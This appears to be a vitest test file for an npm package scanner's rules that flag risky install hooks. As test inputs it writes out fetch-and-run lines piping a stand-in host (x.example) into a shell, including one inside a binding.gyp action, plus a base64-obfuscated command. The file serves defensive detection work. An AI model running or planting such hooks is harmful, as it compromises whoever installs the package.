import { describe, expect, it } from 'vitest';
import { analyzeInstallScripts, installHooks } from './install-scripts.js';
import type { FileSummary } from '../content/inventory.js';

const inventory = (...paths: string[]) =>
  new Map<string, FileSummary>(
    paths.map((path) => [
      path,
      { path, size: 10, kind: path.endsWith('.js') ? 'javascript' : 'shell', minified: false },
    ]),
  );
const rules = (scripts: unknown, files = inventory(), sources = new Map<string, string>()) =>
  analyzeInstallScripts(scripts, files, sources).findings.map((f) => f.rule);

describe('install-script rules', () => {
  it('install-script: reports every hook npm runs on install, not test or build scripts', () => {
    expect(rules({ postinstall: 'node setup.js', test: 'vitest' })).toEqual(['install-script']);
    expect(rules({ build: 'tsc', test: 'vitest' })).toEqual([]);
  });

  it('native-build: node-gyp and prebuild tooling are informational', () => {
    expect(rules({ install: 'prebuild-install || node-gyp rebuild' })).toEqual(['native-build']);
    expect(rules({ install: 'node-gyp-not-really' })).toEqual(['install-script']);
  });

  it('install-download-exec: curl|sh in a hook, but not curl alone', () => {
    expect(rules({ preinstall: 'curl -s https://x.example/i.sh | bash' })).toEqual([
      'install-script',
      'install-download-exec',
    ]);
    expect(rules({ postinstall: 'curl --version' })).toEqual(['install-script']);
  });

  it('install-inline-code: node -e is analysed as code', () => {
    const result = analyzeInstallScripts(
      { postinstall: `node -e "require('child_process').exec(c)"` },
      inventory(),
      new Map(),
    );
    expect(result.findings.map((f) => f.rule)).toEqual(['install-script', 'install-inline-code']);
    expect(result.inlineReports[0]?.signals.map((s) => s.rule)).toEqual(['child-process']);
    expect(rules({ postinstall: 'node --version' })).toEqual(['install-script']);
  });

  it('install-script-obfuscated: base64 or eval in the command', () => {
    expect(rules({ postinstall: 'echo Y3VybCB4 | base64 -d | sh' })).toEqual([
      'install-script',
      'install-script-obfuscated',
    ]);
    expect(rules({ postinstall: 'echo thanks for installing' })).toEqual(['install-script']);
  });

  it('install-runs-binary: a shipped script or binary run directly; node files become install-time entries', () => {
    const files = inventory('setup.sh', 'install.js');
    expect(rules({ preinstall: 'sh setup.sh' }, files)).toEqual(['install-script', 'install-runs-binary']);
    expect(analyzeInstallScripts({ postinstall: 'node install.js' }, files, new Map()).entryFiles).toEqual([
      'install.js',
    ]);
    expect(rules({ postinstall: 'node install.js' }, files)).toEqual(['install-script']);
  });

  it('gyp-without-sources and gyp-command: binding.gyp as a hidden install hook', () => {
    const gypOnly = inventory('binding.gyp');
    const sneaky = new Map([
      ['binding.gyp', `{"targets":[{"target_name":"x","actions":["<!(curl -s https://x.example | sh)"]}]}`],
    ]);
    expect(rules({}, gypOnly, sneaky)).toEqual(['native-build', 'gyp-without-sources', 'gyp-command']);
    const real = inventory('binding.gyp', 'src/addon.cc');
    const include = new Map([
      [
        'binding.gyp',
        `{"targets":[{"target_name":"x","sources":["src/addon.cc"],"include_dirs":["<!(node -p \\"require('node-addon-api').include\\")"]}]}`,
      ],
    ]);
    expect(rules({}, real, include)).toEqual(['native-build']);
  });

  it('prepare-script: reported but it never runs for registry installs', () => {
    expect(rules({ prepare: 'tshy' })).toEqual(['prepare-script']);
    expect(Object.keys(installHooks({ prepare: 'tshy' }, false))).toEqual([]);
    expect(installHooks({}, true)).toEqual({ install: 'node-gyp rebuild' });
  });
});
